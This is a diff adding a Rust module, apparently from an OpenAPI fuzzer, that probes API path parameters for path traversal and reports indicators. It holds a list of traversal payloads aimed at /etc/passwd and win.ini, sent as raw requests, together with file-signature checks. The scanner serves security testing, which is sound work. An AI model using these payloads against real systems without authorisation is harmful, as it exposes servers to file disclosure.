@@ -0,0 +1,171 @@
+use anyhow::Result;
+use percent_encoding::utf8_percent_encode;
+
+use crate::payload::{Payload, PATH_SEGMENT};
+use crate::smuggling::{parse_response, send_raw};
+use crate::transport::{Request, Response};
+
+/// Traversal sequences, encoded slashes and dots, null bytes, overlong UTF-8 encodings and
+/// absolute paths, `{}` is the generated value of the parameter. They are sent as is, so
+/// that the HTTP client does not normalize them.
+const ATTACKS: &[&str] = &[
+    "../../../../../../etc/passwd",
+    "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
+    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "..%252f..%252f..%252f..%252fetc%252fpasswd",
+    "....//....//....//....//etc/passwd",
+    "..\\..\\..\\..\\windows\\win.ini",
+    "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
+    "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd",
+    "/etc/passwd",
+    "%2fetc%2fpasswd",
+    "C:%5cWindows%5cwin.ini",
+    "file:%2f%2f%2fetc%2fpasswd",
+    "{}%00",
+    "{}%00.json",
+    "{}%2f..",
+    "{}%2f..%2f..%2f",
+    "{}/.",
+    "{}/..",
+    "{};.json",
+    "{}%3fadmin=true",
+    "{}%23",
+    ".",
+    "..",
+    "%2e",
+    "%2e%2e",
+];
+
+/// Contents of files that must never be served
+const FILE_SIGNATURES: &[&str] = &[
+    "root:x:0:0",
+    "root:*:0:0",
+    "; for 16-bit app support",
+    "[fonts]",
+];
+
+/// Request line target with the value of the parameter, the other parameters keep their
+/// generated values
+fn target(payload: &Payload, request: &Request, name: &str, value: &str) -> String {
+    let mut path = payload.path.to_string();
+    for (param, param_value) in payload.path_params.iter() {
+        let replacement = match *param == name {
+            true => value.to_string(),
+            false => utf8_percent_encode(param_value, PATH_SEGMENT).to_string(),
+        };
+        path = path.replace(&format!("{{{}}}", param), &replacement);
+    }
+    let mut target = format!(
+        "{}/{}",
+        payload.url.path().trim_end_matches('/'),
+        path.trim_start_matches('/')
+    );
+    if let Some(query) = request.url.query() {
+        target = target + "?" + query;
+    }
+    target
+}
+
+/// Request like the original one to the raw target
+fn raw_request(request: &Request, target: &str) -> Result<String> {
+    let host = match (request.url.host_str(), request.url.port()) {
+        (Some(host), Some(port)) => format!("{}:{}", host, port),
+        (Some(host), None) => host.to_string(),
+        (None, _) => String::new(),
+    };
+    let mut raw = format!(
+        "{} {} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n",
+        request.method, target, host
+    );
+    for (name, value) in request.headers.iter() {
+        if !["host", "connection", "content-length"].contains(&name.to_lowercase().as_str()) {
+            raw += &format!("{}: {}\r\n", name, value);
+        }
+    }
+    match request.body_string()? {
+        Some(body) => {
+            if !request
+                .headers
+                .iter()
+                .any(|(name, _)| name.eq_ignore_ascii_case("content-type"))
+            {
+                raw += "Content-Type: application/json\r\n";
+            }
+            raw += &format!("Content-Length: {}\r\n\r\n{}", body.len(), body);
+        }
+        None => raw += "\r\n",
+    }
+    Ok(raw)
+}
+
+/// The original request to the target, for the finding. The URL normalizes dot segments, the
+/// target as sent is in the indicators.
+fn probe_request(request: &Request, target: &str) -> Request {
+    let mut probe = request.clone();
+    if let Ok(url) = request.url.join(target) {
+        probe.url = url;
+    }
+    probe
+}
+
+fn send(request: &Request, target: &str) -> Result<Option<Response>> {
+    let (raw, elapsed) = send_raw(&request.url, &raw_request(request, target)?)?;
+    Ok(raw.map(|raw| parse_response(&raw, elapsed)))
+}
+
+/// Sends the path parameters of the request with traversal and encoding attacks and returns
+/// the indicators with the first response showing them: server errors, contents of system
+/// files and successful responses where a value that does not exist is rejected, hinting at
+/// another resource or route being reached, and the probe that got it
+pub fn probe(
+    payload: &Payload,
+    request: &Request,
+) -> Result<Option<(Request, Response, Vec<String>)>> {
+    let mut indicators = Vec::new();
+    let mut first_response = None;
+    for (name, value) in payload.path_params.iter() {
+        // How the operation answers a value that does not exist
+        let missing = format!("openapi-fuzzer-missing-{}", payload.seed);
+        let control = send(request, &target(payload, request, name, &missing))?;
+
+        for attack in ATTACKS {
+            let attack =
+                attack.replace("{}", &utf8_percent_encode(value, PATH_SEGMENT).to_string());
+            let attack_target = target(payload, request, name, &attack);
+            let response = match send(request, &attack_target)? {
+                Some(response) => response,
+                None => continue,
+            };
+            let indicator = if response.status / 100 == 5 {
+                Some(format!("server error {}", response.status))
+            } else if response.status / 100 != 2 {
+                None
+            } else if FILE_SIGNATURES
+                .iter()
+                .any(|signature| response.body.contains(signature))
+            {
+                Some(format!(
+                    "contents of a system file in the response with status {}",
+                    response.status
+                ))
+            } else {
+                match &control {
+                    Some(control) if control.status / 100 != 2 && control.body != response.body => {
+                        Some(format!(
+                            "accepted with status {} while a value that does not exist gets {}, \
+                             another resource or route may have been reached",
+                            response.status, control.status
+                        ))
+                    }
+                    _ => None,
+                }
+            };
+            if let Some(indicator) = indicator {
+                indicators.push(format!("`{}` as `{}`: {}", attack, name, indicator));
+                first_response.get_or_insert((probe_request(request, &attack_target), response));
+            }
+        }
+    }
+
+    Ok(first_response.map(|(probe, response)| (probe, response, indicators)))
+}